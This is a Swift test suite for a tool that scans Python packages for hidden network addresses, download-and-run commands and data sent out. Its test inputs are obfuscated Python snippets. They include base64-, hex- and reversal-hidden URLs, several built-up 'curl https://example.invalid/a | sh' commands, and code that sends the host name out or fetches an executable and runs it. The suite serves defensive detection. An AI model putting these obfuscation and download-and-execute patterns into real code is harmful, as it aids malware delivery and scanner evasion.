import Behaviors
import PythonSemantics
import Testing

/// What no literal shows: observers learn it from the evaluation of the package.
@Suite("Values of arguments")
struct ValueTests {
  private let catalogue: Catalogue

  init() throws { catalogue = try Catalogue.embedded() }

  private func seen(_ files: (path: String, source: String)...) -> [Observation] {
    observations(in: files.map { ($0.path, Array($0.source.utf8)) }, catalogue: catalogue)
  }

  private func check(
    _ source: String, shows behavior: Behavior, subject: String? = nil, detail: String,
    sourceLocation: SourceLocation = #_sourceLocation
  ) {
    let found = seen(("package/__init__.py", source))
    let matching = found.filter {
      $0.behavior == behavior && $0.detail.contains(detail) && (subject ?? $0.subject) == $0.subject
    }
    #expect(
      !matching.isEmpty, "seen: \(found.map { "\($0.behavior.name) \($0.subject) {\($0.detail)}" })",
      sourceLocation: sourceLocation)
  }

  @Test(arguments: [
    "requests.get(base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYQ==').decode())",
    "requests.get(url=bytes.fromhex('68747470733a2f2f6578616d706c652e696e76616c69642f61').decode())",
    "requests.get(''.join(chr(ord(c) - 1) for c in 'iuuqt;00fybnqmf/jowbmje0b'))",
    "requests.get('a/dilavni.elpmaxe//:sptth'[::-1])",
    "def get(address): return requests.get(address)\nget(base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYQ==').decode())",
    "class Box:\n  def __init__(self): self.a = base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYQ==').decode()\n"
      + "  def go(self): requests.get(self.a)\nBox().go()",
    "A = {'u': 'aHR0cHM6Ly9leGFtcGxlLmludmFsaWQvYQ=='}\ndef go():\n  def run(): requests.get(base64.b64decode(A['u']))\n"
      + "  threading.Thread(target=run).start()",
  ])
  func decodedAddressesAreRead(code: String) {
    check(
      "import base64, requests, threading\n" + code, shows: .hidesAddress, subject: "constant",
      detail: "https://example.invalid/a")
  }

  @Test func addressesThatAreFilledInKeepTheirHoles() {
    check(
      "import base64, platform, requests\n"
        + "requests.get(base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv').decode() + platform.node())",
      shows: .hidesAddress, subject: "constant", detail: "https://example.invalid/{platform.node()}")
    check(
      "import platform, subprocess, requests\nrequests.get(f'https://example.invalid/{platform.node()}')",
      shows: .fetchesFromNetwork, detail: "https://example.invalid/{platform.node()}")
  }

  @Test func whatIsFilledInIsSent() {
    let found = seen(
      (
        "package/__init__.py",
        "import platform, subprocess, requests\nclass A: pass\na = A()\na.v = platform.node()\n"
          + "requests.get('https://example.invalid/' + getattr(a, 'v'))"
      ))
    #expect(found.contains { $0.behavior == .sendsToNetwork && $0.sources.contains(.readsHostIdentity) })
  }

  @Test func everyAddressOfALoopIsRead() {
    let source = """
      import zlib, requests
      for host in ("192.88." + str(99) + ".30", "192.88." + str(99) + ".31"):
          requests.get("http://" + host + "/a")
      """
    check(source, shows: .namesAddress, subject: "contacted", detail: "http://192.88.99.30/a")
    check(source, shows: .namesAddress, subject: "contacted", detail: "http://192.88.99.31/a")
    check(source, shows: .fetchesFromNetwork, detail: "http://192.88.99.30/a http://192.88.99.31/a")
  }

  @Test func addressesOfLiteralsHideNothing() {
    let found = seen(
      (
        "package/__init__.py",
        """
        import base64, socket, requests
        key = base64.b64decode("QUJDREVGR0g=")
        socket.socket().connect(("192.88.99.30", 8080 + len(key)))
        requests.get("https://example.invalid/" + "a", headers={"a": key})
        """
      ))
    #expect(!found.contains { $0.behavior == .hidesAddress && $0.subject == "constant" })
  }

  @Test(arguments: [
    "os.system(' '.join(['curl', 'https://example.invalid/a', '|', 'sh']))",
    "os.system({'posix': 'curl %s | sh'}['posix'] % 'https://example.invalid/a')",
    "class A:\n  c = 'curl {} | sh'\nsubprocess.run(A().c.format('https://example.invalid/a'), shell=True)",
    "getattr(os, 'sys' + 'tem')('curl https://example.invalid/a | sh')",
    "list(map(os.system, ['curl https://example.invalid/a | sh']))",
    "eval(\"os.system('curl https://example.invalid/a ' + '| sh')\")",
  ])
  func commandsArePutTogether(code: String) {
    check("import os, subprocess\n" + code, shows: .runsDownloadCommand, detail: "curl https://example.invalid/a | sh")
    check("import os, subprocess\n" + code, shows: .spawnsProcess, detail: "curl https://example.invalid/a | sh")
  }

  @Test func argumentsWithFamousNamesAreNoModules() {
    let found = seen(
      (
        "package/__init__.py",
        "import subprocess\ndef go(os, requests):\n  run, get = os.system, requests.get\n  get(run('a b'))"
      ))
    #expect(!found.contains { $0.behavior == .spawnsProcess || $0.behavior == .fetchesFromNetwork })
  }

  @Test func keysOfCommandsHideNothing() {
    let found = seen(
      (
        "package/__init__.py",
        "import codecs, subprocess\nkey = codecs.encode(bytes(a ^ 7 for a in range(40)), 'hex').decode()\n"
          + "subprocess.run(['openssl', 'enc', '-K', key])"
      ))
    #expect(found.contains { $0.behavior == .spawnsProcess && $0.detail.contains("openssl enc -K 0706") })
    #expect(!found.contains { $0.behavior == .hidesCommand })
  }

  @Test func compiledTextIsHiddenText() {
    check(
      "import base64\nexec(compile(base64.b64decode('cHJpbnQoInNvbWV0aGluZyIp'), 'a', 'exec'))", shows: .hidesCommand,
      subject: "constant", detail: "print(\"something\")")
  }

  @Test func listsThatHoldThemselvesAreCutShort() {
    let found = seen(
      (
        "package/__init__.py",
        """
        import os, subprocess
        words = ["git", "describe"]
        words.append(words)
        for _ in range(12):
            if os.getenv("A"):
                words = [words, [words, words]]
        subprocess.run(words)
        subprocess.run(["git", "describe", words])
        handle = "a"
        for _ in range(50):
            handle = open(handle, "wb")
        subprocess.run(["git", handle])
        """
      ))
    #expect(found.contains { $0.behavior == .spawnsProcess && $0.detail.contains("git describe {") })
    #expect(found.contains { $0.behavior == .spawnsProcess && $0.detail.contains("git {file}") })
  }

  // MARK: Files

  /// Whether the start of a program is known to start what the package wrote.
  private func startsWhatWasWritten(_ files: (path: String, source: String)...) -> Bool {
    observations(in: files.map { ($0.path, Array($0.source.utf8)) }, catalogue: catalogue).contains {
      $0.behavior == .spawnsProcess && $0.sources.contains(.writesFile)
    }
  }

  @Test func filesThatAreFetchedAndStartedAreOne() {
    let fetch = "import os, requests, subprocess\ndef fetch(p):\n  open(p, 'wb').write(requests.get(u).content)\n"
    #expect(startsWhatWasWritten(("a/__init__.py", fetch + "u = 1\nfetch('a.exe')\nos.system('start a.exe')")))
    #expect(startsWhatWasWritten(("a/__init__.py", fetch + "u = 1\nfetch('./a.exe')\nsubprocess.run(['a.exe', '-q'])")))
    #expect(!startsWhatWasWritten(("a/__init__.py", fetch + "u = 1\nfetch('a.zip')\nos.system('start b.exe')")))
    #expect(
      !startsWhatWasWritten(("a/__init__.py", "import os\nopen('a.txt', 'w').write('a text')\nos.system('more a.txt')"))
    )
    #expect(
      !startsWhatWasWritten(
        ("a/__init__.py", fetch + "def start(p):\n  subprocess.run([p])")),
      "two arguments of one name need not be one file")
  }

  @Test func pathsTravelBetweenFiles() {
    #expect(
      startsWhatWasWritten(
        (
          "demo-1.0/a/put.py",
          "import base64, tempfile, os\nPATH = os.path.join(tempfile.gettempdir(), 'a')\n"
            + "def put(): open(PATH, 'wb').write(base64.b64decode('QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo='))"
        ),
        (
          "demo-1.0/a/go.py",
          "import subprocess\nfrom a import put\ndef go():\n  put.put()\n  subprocess.Popen(put.PATH)"
        )))
    #expect(
      startsWhatWasWritten(
        (
          "a/__init__.py",
          "import tempfile, subprocess, requests\nf = tempfile.NamedTemporaryFile(delete=False)\n"
            + "f.write(requests.get('https://example.invalid/a').content)\nsubprocess.run([f.name])"
        )))
  }
}
